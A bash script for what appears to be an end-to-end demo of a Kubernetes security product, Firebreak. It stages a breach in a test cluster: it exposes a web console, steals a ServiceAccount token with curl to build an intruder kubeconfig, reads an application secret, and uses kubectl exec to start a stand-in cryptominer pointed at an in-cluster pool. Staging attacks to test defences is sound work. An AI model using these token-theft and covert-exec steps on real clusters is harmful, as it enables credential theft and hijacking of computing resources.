# Sourced after lib.sh: what the intruder does, and the cluster that he finds. Nothing here touches
# anything outside the cluster; the miner is a stand-in that computes nothing.
# shellcheck shell=bash
# shellcheck disable=SC2154  # demo comes from lib.sh

manifests=${demo:-e2e/demo}/manifests
miner_pod='' miner_ip='' pool_ip='' old_token='' intruder_work='' opened_at='' url=''

demo_images='e2e-console e2e-standins'
demo_namespaces='ops shop pool outside'

# The applications, healthy and closed; the console runs, but nothing leads to it yet.
prepare_cluster() {
  kubectl apply -f "$manifests/00-namespaces.yaml" >/dev/null
  kubectl -n ops get secret storefront-token >/dev/null 2>&1 ||
    head -c 24 /dev/urandom | base64 | tr -d '\n' |
    kubectl -n ops create secret generic storefront-token --from-file=token=/dev/stdin >/dev/null
  kubectl apply -f "$manifests/10-storefront.yaml" -f "$manifests/20-shop.yaml" \
    -f "$manifests/30-outside.yaml" -f "$manifests/40-console.yaml" >/dev/null
  local each
  for each in ops/storefront ops/console shop/web shop/catalog pool/pool outside/prober; do
    kubectl -n "${each%/*}" rollout status "deploy/${each#*/}" --timeout=120s >/dev/null ||
      fail "deployment $each does not become ready"
  done
  pool_ip=$(kubectl -n pool get service pool -o jsonpath='{.spec.clusterIP}')
}

# open_console: the one command that starts it all; sets opened_at, and the url that leads to it. The node
# port is the one that the API server gave in its answer: a moment later Firebreak may have taken it back.
open_console() {
  local port
  opened_at=$(now_ms)
  port=$(kubectl apply -f "$manifests/41-console-service.yaml" -o jsonpath='{.spec.ports[0].nodePort}')
  [ -n "$port" ] || fail 'the console gets no node port'
  url=http://$(node_ip):$port
}

# From outside the cluster, as the intruder: the list of namespaces is on the page. A busy machine may
# take seconds for it; what is locked does not answer however long one waits.
# No pipe into grep -q: it ends at the first match, curl then fails to write, and pipefail makes a No of a Yes.
console_answers() { [[ $(curl -s -m 4 "$1/clusters/local/namespaces") == *'Kubernetes Web View'* ]]; }

# steal_token URL: takes the ServiceAccount's token and the API server's certificate off the console's
# page and makes a kubeconfig of them, which holds nothing else.
steal_token() {
  local page=$intruder_work/page server
  curl -s -m 5 "$1/clusters/local/namespaces/ops/secrets/console-token?download=yaml" >"$page"
  server=$(kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}')
  {
    printf 'apiVersion: v1\nkind: Config\ncurrent-context: intruder\n'
    printf 'clusters: [{name: c, cluster: {server: "%s", certificate-authority-data: "%s"}}]\n' \
      "$server" "$(sed -n 's/^  ca\.crt: //p' "$page")"
    printf 'users: [{name: u, user: {token: "%s"}}]\n' "$(sed -n 's/^  token: //p' "$page" | base64 -d)"
    printf 'contexts: [{name: intruder, context: {cluster: c, user: u}}]\n'
  } >"$intruder_work/kubeconfig"
  rm -f "$page"
}

# kubectl with nothing but the stolen token.
intruder() { kubectl --kubeconfig "$intruder_work/kubeconfig" "$@"; }

# The application's credential, as the intruder reads it.
read_credential() {
  old_token=$(intruder -n ops get secret storefront-token -o jsonpath='{.data.token}' | base64 -d)
}

# start_miner: in a running pod of Deployment shop/web, by exec, so that no manifest shows it; sets
# miner_pod and miner_ip and prints nothing. The exec stays open as long as the miner runs.
start_miner() {
  miner_pod=$(intruder -n shop get pods -l app=web -o jsonpath='{.items[0].metadata.name}')
  miner_ip=$(intruder -n shop get pod "$miner_pod" -o jsonpath='{.status.podIP}')
  intruder -n shop exec "$miner_pod" -- miner-standin \
    -o "stratum+tcp://$pool_ip:3333" -u wallet-of-nobody -p x --cpu-max-threads-hint=20 \
    >/dev/null 2>&1 </dev/null &
}

miner_connected() {
  [[ $(kubectl -n shop exec "$miner_pod" -- cat /proc/net/tcp 2>/dev/null) == *":0D05 01"* ]]
}

# The world as before the breach, so that it can be replayed: the infected pod goes (a clean one comes)
# and nothing leads to the console any more.
rewind_breach() {
  kubectl -n ops delete service console --ignore-not-found >/dev/null
  kubectl -n shop delete pod "$miner_pod" --ignore-not-found --timeout=60s >/dev/null
  kubectl -n shop rollout status deploy/web --timeout=60s >/dev/null
}

# Everything that the demo made, whatever Firebreak has done to it since.
remove_breach() {
  kubectl delete securitypolicy.firebreak.dev demo --ignore-not-found --timeout=30s
  kubectl delete clusterrolebinding demo-console-cluster-admin --ignore-not-found
  # shellcheck disable=SC2086  # a list of names
  kubectl delete namespace $demo_namespaces --ignore-not-found --timeout=120s
}
